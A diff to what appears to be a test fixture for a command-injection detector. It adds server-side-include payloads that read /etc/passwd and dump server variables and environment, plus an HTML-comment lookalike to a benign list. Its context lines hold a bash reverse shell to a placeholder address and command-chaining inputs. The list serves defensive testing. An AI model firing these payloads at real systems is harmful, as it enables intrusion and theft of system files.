@@ -88,6 +88,9 @@ COMMAND_INJECTIONS = [
     ("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1", "a reverse shell through bash's network device"),
     ("printf 'di' | rev | sh", "a pipe into a shell"),
     ('<!--#exec cmd="ls /"-->', "a server-side include running a command"),
+    ('<!--#include virtual="/etc/passwd"-->', "a server-side include reading a file"),
+    ('"--><!--#echo var="DOCUMENT_ROOT"-->', "a server-side include reading the server's variables"),
+    ("<!--#printenv -->", "a server-side include listing the server's environment"),
     ("a);id", "a parenthesised argument closed, then a command alone"),
     ("x|id", "a throwaway argument, then a command alone"),
     ("| dir c:/windows", "a Windows path with a forward slash"),
@@ -118,6 +121,7 @@ COMMAND_INJECTIONS = [
 
 BENIGN_SHELL_LOOKALIKES = [
     "Tom & Jerry; cat lovers",
+    "<!-- #region helpers --> and <!-- include the footer -->",  # HTML comments, no directive
     "Ben & Jerry's; sleep well",
     "rock & roll | id card photo",
     "name|id|email",
